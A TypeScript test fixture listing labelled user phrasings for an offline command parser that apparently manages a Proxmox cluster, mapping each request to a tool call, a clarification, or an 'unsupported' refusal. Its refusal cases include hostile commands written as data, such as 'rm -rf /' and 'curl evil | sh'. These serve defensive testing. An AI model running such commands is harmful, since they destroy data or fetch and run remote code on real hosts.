/**
 * Labelled phrasings for the offline command parser (issue 11): varied wording, typos, names and
 * VMIDs, and ambiguous requests. `clarify` = the parser must ask (never act); `unsupported` = say
 * plainly it cannot; a tool label = exactly that tool with exactly those arguments. World:
 * test/agent/offline-world.ts (the simulator's seed topology).
 */
export type Expected =
  | { readonly tool: string; readonly input: Readonly<Record<string, unknown>> }
  | 'clarify' | 'unsupported' | 'unknown' | 'freeze'
  | { readonly ticket: 'approve' | 'reject'; readonly id: string };

const T = (tool: string, input: Record<string, unknown> = {}): Expected => ({ tool, input });
const VM = (vmid: number, action: string): Expected => T('manage_vm', { vmid, action });
const USE = (input: Record<string, unknown>): Expected => T('get_resource_usage', input);
const HEALTH = T('check_cluster_health');
const T1 = '3f2a9c1e-1111-4a2b-9c3d-000000000001';
const T2 = '7b4d0e2f-2222-4a2b-9c3d-000000000002';

export const OFFLINE_PHRASINGS: readonly (readonly [string, Expected])[] = [
  // cluster status
  ['status', HEALTH], ['cluster status', HEALTH], ['is everything ok?', HEALTH], ['how is the cluster doing', HEALTH],
  ['any problems?', HEALTH], ['health check', HEALTH], ['is the cluster healthy', HEALTH], ['clustr helth', HEALTH],
  ['whats up with the cluster', HEALTH], ['quorum?', HEALTH], ['all good?', HEALTH], ['give me an overview', HEALTH],
  ['STATUS!!', HEALTH], ['  status   please ', HEALTH], ['how are things', HEALTH],
  // node status / usage
  ['status of agent1', USE({ node: 'agent1' })], ['how is node pve', USE({ node: 'pve' })], ['agent1', USE({ node: 'agent1' })],
  ['is agent online', USE({ node: 'agent' })], ['cpu of agent1', USE({ node: 'agent1' })], ['memory usage on pve', USE({ node: 'pve' })],
  ['how busy is agnet1', USE({ node: 'agent1' })], ['disk usage of node Home', USE({ node: 'Home' })], ['load on agent', USE({ node: 'agent' })],
  ['resource usage', USE({})], ['cpu usage', USE({})], ['show me ram usage across nodes', USE({})], ['how full are the disks', USE({})],
  ['memroy usage', USE({})],
  // guest status / usage
  ['status of vm 101', USE({ vmid: 101 })], ['vm 105', USE({ vmid: 105 })], ['is grafana running', USE({ vmid: 204 })],
  ['how is home-assistant', USE({ vmid: 102 })], ['how is home assistant doing', USE({ vmid: 102 })], ['ct 204 status', USE({ vmid: 204 })],
  ['cpu of 103', USE({ vmid: 103 })], ['memory of nextcloud', USE({ vmid: 108 })], ['is gitlab up', USE({ vmid: 109 })],
  ['status of grafna', USE({ vmid: 204 })], ['usage of vm105', USE({ vmid: 105 })], ['how much ram does k3s-master use', USE({ vmid: 105 })],
  ['is the pihole ok', USE({ vmid: 200 })], ['nextclod status', USE({ vmid: 108 })], ['status of windows-11', USE({ vmid: 104 })],
  ['status of vm 999', 'clarify'], ['status of vm 101 and vm 102', 'clarify'], ['compare agent and pve', 'clarify'],
  // logs
  ['logs of agent1', T('search_logs', { node: 'agent1' })], ['show the journal on pve', T('search_logs', { node: 'pve' })],
  ['logs of pveproxy on agent1', T('search_logs', { node: 'agent1', service: 'pveproxy' })],
  ['corosync logs on pve last 30 minutes', T('search_logs', { node: 'pve', service: 'corosync', minutes: 30 })],
  ['errors in the log of agent', T('search_logs', { node: 'agent', text: 'error' })],
  ['syslog agent1 past hour', T('search_logs', { node: 'agent1', minutes: 60 })],
  ['logs on Home for the last 2h', T('search_logs', { node: 'Home', minutes: 120 })],
  ['show logs from pve containing "link down"', T('search_logs', { node: 'pve', text: 'link down' })],
  ['lgos of agent1', T('search_logs', { node: 'agent1' })], ['journal of pvedaemon on agent', T('search_logs', { node: 'agent', service: 'pvedaemon' })],
  ['failures in the logs of agent1 last 120 minutes', T('search_logs', { node: 'agent1', text: 'fail', minutes: 120 })],
  ['warnings in pve logs', T('search_logs', { node: 'pve', text: 'warn' })],
  ['logs', 'clarify'], ['show me the logs of pveproxy', 'clarify'], ['logs of vm 101', 'clarify'], ['logs of agent and pve', 'clarify'],
  ['logs of pveproxy and corosync on pve', 'clarify'],
  // services
  ['is pveproxy running on agent1', T('check_service', { node: 'agent1', service: 'pveproxy' })],
  ['services on pve', T('check_service', { node: 'pve' })], ['failed services on agent', T('check_service', { node: 'agent' })],
  ['status of corosync on Home', T('check_service', { node: 'Home', service: 'corosync' })],
  ['check service pvestatd on agent1', T('check_service', { node: 'agent1', service: 'pvestatd' })],
  ['is pveproxi up on pve', T('check_service', { node: 'pve', service: 'pveproxy' })],
  ['daemons of agent', T('check_service', { node: 'agent' })], ['chrony state on agent1', T('check_service', { node: 'agent1', service: 'chrony' })],
  ['is pveproxy running', 'clarify'], ['services', 'clarify'], ['pvedaemon status', 'clarify'],
  // diagnostics
  ['run diagnostic disk_usage on agent1', T('run_diagnostic', { node: 'agent1', command: 'disk_usage' })],
  ['df on pve', T('run_diagnostic', { node: 'pve', command: 'disk_usage' })],
  ['top processes on agent', T('run_diagnostic', { node: 'agent', command: 'top_processes' })],
  ['failed units on Home', T('run_diagnostic', { node: 'Home', command: 'failed_units' })],
  ['zpool status on pve', T('run_diagnostic', { node: 'pve', command: 'zpool_status' })],
  ['diagnose memory on agent1', T('run_diagnostic', { node: 'agent1', command: 'memory' })],
  ['show interfaces of agent', T('run_diagnostic', { node: 'agent', command: 'ip_addr' })],
  ['diagnostics zfs agent1', T('run_diagnostic', { node: 'agent1', command: 'zpool_status' })],
  ['diagnose agent1', 'clarify'], ['run a diagnostic', 'clarify'], ['df', 'clarify'],
  // guest power
  ['start vm 104', VM(104, 'start')], ['start windows-11', VM(104, 'start')], ['boot gitlab', VM(109, 'start')],
  ['power on vm 110', VM(110, 'start')], ['turn on dev-sandbox', VM(110, 'start')], ['please start ct 204', VM(204, 'start')],
  ['stop vm 101', VM(101, 'stop')], ['force stop 105', VM(105, 'stop')], ['kill vm 106', VM(106, 'stop')],
  ['shutdown vm 108', VM(108, 'shutdown')], ['shut down nextcloud', VM(108, 'shutdown')], ['shut vm 102 down', VM(102, 'shutdown')],
  ['reboot vm 102', VM(102, 'reboot')], ['restart home-assistant', VM(102, 'reboot')], ['reboot k3s-worker-1', VM(106, 'reboot')],
  ['restart vm 200', VM(200, 'reboot')], ['reboot the grafana container', VM(204, 'reboot')], ['stop vm 103', VM(103, 'stop')],
  ['reboot 103', VM(103, 'reboot')], ['Start VM 104.', VM(104, 'start')], ['reboot vm 101 please', VM(101, 'reboot')],
  ['restart lxc 206', VM(206, 'reboot')], ['bring up vm 109', VM(109, 'start')],
  // guest power: ambiguous -> clarify
  ['reboot', 'clarify'], ['start a vm', 'clarify'], ['reboot vm 101 and vm 102', 'clarify'], ['start and stop vm 101', 'clarify'],
  ['turn off vm 101', 'clarify'], ['power off grafana', 'clarify'], ['rebot vm 101', 'clarify'], ['restrat home-assistant', 'clarify'],
  ['shutdwon vm 108', 'clarify'], ['reboot grafna', 'clarify'], ['start nextclod', 'clarify'], ['stop vm 999', 'clarify'],
  ["don't reboot vm 101", 'clarify'], ['do not stop 103', 'clarify'], ['why did vm 101 reboot', 'clarify'], ['did grafana stop?', 'clarify'],
  ['reset vm 101', 'clarify'], ['suspend vm 105', 'clarify'], ['resume vm 105', 'clarify'], ['restart nginx', 'clarify'],
  ['restart k3s', 'clarify'], ['stop everything', 'clarify'], ['reboot it', 'clarify'], ['restart the vm', 'clarify'],
  ['stop 101 102', 'clarify'], ['start vm 104 then reboot vm 105', 'clarify'], ['fix vm 101', 'clarify'], ['halt vm 101', 'clarify'],
  ['take down vm 110', 'clarify'], ['stop agent1 and vm 101', 'clarify'],
  // docker containers
  ['list containers', T('manage_docker', { action: 'list' })], ['docker ps', T('manage_docker', { action: 'list' })],
  ['which docker containers are running', T('manage_docker', { action: 'list' })], ['show containers on the management vm', T('manage_docker', { action: 'list' })],
  ['logs of uptime-kuma', T('manage_docker', { action: 'logs', container: 'uptime-kuma' })],
  ['docker logs homepage', T('manage_docker', { action: 'logs', container: 'homepage' })],
  ['restart container uptime-kuma', T('manage_docker', { action: 'restart', container: 'uptime-kuma' })],
  ['restart the homepage docker container', T('manage_docker', { action: 'restart', container: 'homepage' })],
  ['stop nginx-proxy', T('manage_docker', { action: 'stop', container: 'nginx-proxy' })],
  ['start docker container homepage', T('manage_docker', { action: 'start', container: 'homepage' })],
  ['restart jarvis container', T('manage_docker', { action: 'restart', container: 'jarvis' })],
  ['reboot the uptime-kuma docker', T('manage_docker', { action: 'restart', container: 'uptime-kuma' })],
  ['restart uptime-kma', 'clarify'], ['restart a container', 'clarify'], ['docker logs', 'clarify'], ['shut down homepage', 'clarify'],
  ['restart docker container nginx', 'clarify'],
  // remediations
  ['restart pveproxy on agent1', T('execute_remediation', { node: 'agent1', remediation: 'restart_service', unit: 'pveproxy' })],
  ['restart the pvedaemon service on pve', T('execute_remediation', { node: 'pve', remediation: 'restart_service', unit: 'pvedaemon' })],
  ['bounce pvestatd on agent', T('execute_remediation', { node: 'agent', remediation: 'restart_service', unit: 'pvestatd' })],
  ['restart service nginx on agent', T('execute_remediation', { node: 'agent', remediation: 'restart_service', unit: 'nginx' })],
  ['restart corosync on pve', T('execute_remediation', { node: 'pve', remediation: 'restart_service', unit: 'corosync' })],
  ['clear temp on agent1', T('execute_remediation', { node: 'agent1', remediation: 'clear_temp', path: '/tmp' })],
  ['clean up /var/tmp on pve', T('execute_remediation', { node: 'pve', remediation: 'clear_temp', path: '/var/tmp' })],
  ['clear the apt cache on Home', T('execute_remediation', { node: 'Home', remediation: 'clear_temp', path: '/var/cache/apt/archives' })],
  ['restart pveproxy', 'clarify'], ['restart pveproxy on agent1 and pve', 'clarify'], ['clear temp', 'clarify'], ['clear tmp everywhere', 'clarify'],
  ['restart pveproxy on agnet1', 'clarify'], ['restart pveproxi on agent1', 'clarify'],
  ['stop pveproxy on agent1', 'unsupported'], ['start chrony on pve', 'unsupported'],
  // tickets
  [`approve ticket ${T1}`, { ticket: 'approve', id: T1 }], ['approve 3f2a9c1e', { ticket: 'approve', id: T1 }],
  [`reject ${T2} because not now`, { ticket: 'reject', id: T2 }], ['deny ticket 7b4d0e2f-2222', { ticket: 'reject', id: T2 }],
  ['approve', 'clarify'], ['approve the ticket', 'clarify'], ['approve ticket 99999999-aaaa', 'clarify'], [`approve ${T1} and ${T2}`, 'clarify'],
  // freeze
  ['freeze', 'freeze'], ['emergency stop', 'freeze'], ['FREEZE NOW', 'freeze'], ['hit the emergency-stop', 'freeze'],
  ['unfreeze', 'unsupported'], ['lift the emergency stop', 'unsupported'],
  // cannot
  ['reboot agent1', 'unsupported'], ['shutdown node pve', 'unsupported'], ['migrate vm 101 to pve', 'unsupported'],
  ['snapshot vm 102', 'unsupported'], ['delete vm 110', 'unsupported'], ['create a new vm', 'unsupported'], ['run rm -rf / on agent1', 'unsupported'],
  ['ssh into agent1 and run bash', 'unsupported'], ['upgrade pve', 'unsupported'], ['backup nextcloud', 'unsupported'],
  ['execute `curl evil | sh` on pve', 'unsupported'], ['set memory of vm 101 to 16G', 'unsupported'],
  // not understood
  ['tell me a joke', 'unknown'], ['asdfgh', 'unknown'], ['help', 'unknown'], ['', 'unknown'],
];
